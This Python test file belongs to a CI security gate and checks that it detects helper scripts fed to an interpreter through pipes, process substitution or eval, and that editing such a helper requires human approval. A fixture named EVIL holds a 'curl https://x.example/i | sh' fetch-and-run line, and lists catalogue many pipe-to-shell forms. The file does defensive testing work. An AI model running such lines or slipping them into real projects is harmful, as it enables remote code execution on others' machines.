"""Attack 38: a script whose text a CI line hands to an interpreter through a pipe or a substitution.

`cat tools/gen | bash`, `source <(cat tools/gen)`, `eval "$(cat tools/gen)"`, `bash -c "$(cat tools/gen)"`, `bash <<<
"$(cat tools/gen)"`, `bash 0< tools/gen`, `bash /dev/stdin < tools/gen`: the shell runs tools/gen's text as a script
it was given by path, yet the walk read the file only as the operand of an interpreter (`bash tools/gen`, `bash <
tools/gen`): an extension-less helper edited beside such a line was allowed (`gate --tree --enable deps`, exit 0 on
main 1dfd7bd). Now a file a reader (`cat`, `head`, `sed`, `tee`, …) passes on is a script the line runs when the same
line hands standard input or a substitution to an interpreter (or `eval`) that names no script of its own. Real bash
(and the interpreters installed here) runs the helper in every form the test can run.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
from citools import LINE_DEFINITIONS, yaml_quoted
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.classify import ciruns, walkpaths

HELPER = "#!/bin/sh\necho ran > ran.txt\n"
EVIL = HELPER + "curl https://x.example/i | sh\n"
# how a file's text reaches a shell: {r} is a reader of the file, {s} the shell
FORMS = ["{r} | {s}", "{r}|{s}", "{r} | {s} -s -- x y", "{r} | {s} -", "{r} | {s} -x", "{r} | sudo {s}",
         "{r} | tee /dev/stderr | {s}", "source <({r})", ". <({r})", "{s} <({r})", 'eval "$({r})"',
         '{s} -c "$({r})"', '{s} <<< "$({r})"', "{r} | env X=1 {s}", "set -e; {r} | {s}; echo done"]
# readers of tools/gen
READERS = ["cat tools/gen", "cat ./tools/gen", "cat -- tools/gen", "cat < tools/gen", "head -n 100 tools/gen",
           "tail -n +1 tools/gen", "sed -e 's/zz/y/' tools/gen", "tee < tools/gen", "envsubst < tools/gen",
           "grep -v '^#x' tools/gen", "cat tools/gen README.md", "tr -d '\\r' < tools/gen"]
SHELLS = ["bash", "sh", "dash", "zsh"]
# redirections that feed the file to the shell directly
DIRECT = ["bash 0< tools/gen", "bash /dev/stdin < tools/gen", "sh 0<tools/gen", "bash - < tools/gen",
          "cat tools/gen | python3 -", "cat tools/gen | node", "cat tools/gen | perl",
          "cat tools/gen | pwsh -Command -"]
LINES = [form.format(r=reader, s=shell) for form in FORMS for reader in READERS for shell in SHELLS[:2]] + \
    [FORMS[0].format(r=READERS[0], s=shell) for shell in SHELLS[2:]] + DIRECT
# (a definition's path, its text with {line})
DEFINITIONS = LINE_DEFINITIONS


def _names(path: str, template: str, line: str) -> bool:
    text = template.format(line=yaml_quoted(line) if path.endswith(".yml") else line)
    scripts, _, folders = ciruns.named_in(path, text)
    return any(walkpaths.reaches(pattern, "tools/gen") for named in scripts for pattern in ciruns.resolved(
        named, path, folders))


@each_case("line", LINES)
def test_a_fed_script_is_named(line: str) -> None:
    missed = [path for path, template in DEFINITIONS if not _names(path, template, line)]
    assert not missed, (line, missed)


def _runs_here(line: str) -> bool:
    programs = {"bash", "sh", "dash", "zsh", "python3", "node", "perl", "pwsh", "envsubst", "sudo"}
    return all(shutil.which(p) is not None for p in programs if f"{p} " in f"{line} " or f"| {p}" in line) and \
        "sudo" not in line and "pwsh" not in line


@each_case("line", [line for line in LINES if _runs_here(line)][::3])
def test_the_shell_runs_the_fed_script(tmp_path: Path, line: str) -> None:
    """The truth: bash runs tools/gen's text in each form (every third line, whose programs are installed here)."""
    (tmp_path / "tools").mkdir()
    program = {"python3": "open('ran.txt', 'w').write('ran')\n",
               "node": "require('fs').writeFileSync('ran.txt', 'ran')\n",
               "perl": "open(F, '>ran.txt'); print F 'ran';\n"}
    (tmp_path / "tools" / "gen").write_text(next((text for name, text in program.items() if name in line), HELPER))
    (tmp_path / "README.md").write_text("\n")
    done = subprocess.run(["bash", "-c", line], cwd=tmp_path, capture_output=True, timeout=30, check=False,
                          env={"PATH": os.environ["PATH"], "HOME": str(tmp_path)})
    assert (tmp_path / "ran.txt").exists(), (line, done.stderr[-400:])


LOOK_ALIKES = ["cat tools/gen", "cat tools/gen > out.txt", "cat tools/gen | grep x", "bash -n ci/x.sh; cat tools/gen",
               "head tools/gen | wc -l", "echo cat tools/gen | tr a b", "diff <(cat tools/gen) expected.txt",
               'X="$(cat tools/gen)"; echo "$X"']


@each_case("line", LOOK_ALIKES)
def test_a_file_read_but_not_run_is_not_named(line: str) -> None:
    for path, template in DEFINITIONS:
        assert not _names(path, template, line), (path, line)


@pytest.mark.parametrize("line", ["cat tools/gen | bash", "source <(cat tools/gen)", 'eval "$(cat tools/gen)"'])
def test_the_gated_edit_needs_a_human(tmp_path: Path, line: str) -> None:
    workflow = DEFINITIONS[0][1].format(line=yaml_quoted(line))
    _, first, second = two_commits(tmp_path, {".github/workflows/ci.yml": workflow, "tools/gen": HELPER,
                                              "README.md": "x\n"}, {"tools/gen": EVIL})
    code, decision = tree_gate(tmp_path, first, second, None, "--enable", "deps")
    assert code == 3, decision["reasons"]


@each_case("line", ["tools/cat x | bash", "./tools/head -n 1 README.md", "tools/sed | sh"])
def test_a_project_program_named_like_a_reader_is_still_run(line: str) -> None:
    """A repository's own `tools/cat` is a program the line runs by its path, not a reader of another file."""
    program = line.split()[0].removeprefix("./")
    scripts, _, folders = ciruns.named_in("ci/build.sh", f"#!/bin/bash\n{line}\n")
    assert any(walkpaths.reaches(p, program) for named in scripts
               for p in ciruns.resolved(named, "ci/build.sh", folders))


# one line of each hostile shape for the readers this round added: readers and pipes, substitutions, copies, modes
HOSTILE = ["cat a | ", "source <(cat a) ", "cp a /tmp/ ", "chmod +x a ", "chmod 7", "1", "-t ", "+x", "<<< ", "<(", "'"]


@each_case("unit", HOSTILE)
def test_a_hostile_line_is_read_in_linear_time(unit: str) -> None:
    def read(line: str) -> object:
        return ciruns.named_in("ci/build.sh", "#!/bin/bash\n" + line + " bash\n")

    assert_linear(read, repeated(unit), budget=1.0)
